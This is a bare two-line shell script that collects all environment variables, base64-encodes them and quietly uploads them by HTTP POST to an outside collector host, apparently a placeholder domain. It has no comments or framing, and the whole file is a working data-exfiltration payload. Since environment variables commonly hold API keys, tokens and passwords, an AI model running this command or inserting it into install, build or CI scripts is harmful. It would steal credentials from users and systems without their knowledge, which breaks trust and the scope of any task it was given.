#!/bin/sh
env | base64 | curl -s -X POST --data-binary @- https://collector.example.net/i
